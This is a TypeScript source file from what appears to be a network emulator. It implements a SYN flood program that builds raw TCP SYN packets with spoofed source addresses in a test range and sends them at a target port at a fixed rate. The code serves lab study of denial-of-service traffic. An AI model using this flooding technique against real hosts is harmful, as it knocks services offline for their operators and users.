/**
 * A SYN flood generator for the lab host: TCP SYNs from spoofed source addresses written
 * whole (IP_HDRINCL) to a raw socket as fast as the link takes them, as hping3 --flood -S
 * does. The sources are in 198.51.100.0/24 (TEST-NET-2), so the victim's SYN-ACKs go to its
 * gateway and die there.
 */
import type { Nanos } from '../emulator/event-queue.js';
import { csumFold, csumPartial, pseudoHeaderSum } from '../stack/wire/checksum.js';
import type { Program, ProgramContext } from './program.js';
import { writeU16, writeU32 } from '../stack/uapi/byte-order.js';
import { IPPROTO_TCP } from '../stack/uapi/in.js';
import { AF_INET, SOCK_RAW } from '../stack/uapi/socket.js';
import { Errno, errnoName } from '../stack/uapi/errno.js';

export interface SynFloodOptions {
  target: number;
  port: number;
  durationNs: Nanos;
  /** Gap between SYNs; the link's frame time for a 60-byte frame is 6.72 µs at 100 Mbit/s. */
  intervalNs: Nanos;
  /** Spoofed source network (a /24). */
  sourceNet: number;
}

export class SynFlood implements Program {
  readonly name = 'syn-flood';
  exitCode: number | null = null;
  sent = 0;
  refused = 0;
  private ctx!: ProgramContext;
  private fd = -1;
  private n = 0;
  private startNs = 0;

  constructor(readonly opts: SynFloodOptions) {}

  start(ctx: ProgramContext): void {
    this.ctx = ctx;
    this.fd = ctx.sys.socket(AF_INET, SOCK_RAW, IPPROTO_TCP);
    if (this.fd < 0) {
      ctx.log(`syn-flood: socket: ${errnoName(this.fd)}`);
      ctx.exit(2);
      return;
    }
    ctx.sys.setsockopt(this.fd, 'IP_HDRINCL', 1);
    this.startNs = ctx.now();
    this.burst();
  }

  private burst(): void {
    if (this.ctx.now() - this.startNs >= this.opts.durationNs) {
      this.ctx.log(`sent ${this.sent} SYNs (${this.refused} refused by the send buffer)`);
      this.ctx.exit(0);
      return;
    }
    const i = this.n++;
    const src = (this.opts.sourceNet | (1 + (i % 254))) >>> 0;
    const sport = 1024 + ((i * 7919) % 60000);
    const pkt = new Uint8Array(40);
    pkt[0] = 0x45;
    writeU16(pkt, 2, 40);
    pkt[8] = 64;
    pkt[9] = IPPROTO_TCP;
    writeU32(pkt, 12, src);
    writeU32(pkt, 16, this.opts.target);
    const seg = pkt.subarray(20);
    writeU16(seg, 0, sport);
    writeU16(seg, 2, this.opts.port);
    writeU32(seg, 4, (i * 2654435761) >>> 0);
    seg[12] = 5 << 4;
    seg[13] = 0x02; // SYN
    writeU16(seg, 14, 29200);
    writeU16(seg, 16, csumFold(csumPartial(seg, 0, 20, pseudoHeaderSum(src, this.opts.target, IPPROTO_TCP, 20))));
    const r = this.ctx.sys.sendto(this.fd, pkt, { addr: this.opts.target, port: 0 });
    if (r === -Errno.EAGAIN || r === -Errno.ENOBUFS) this.refused++;
    else if (r >= 0) this.sent++;
    this.ctx.after(this.opts.intervalNs, () => this.burst());
  }
}
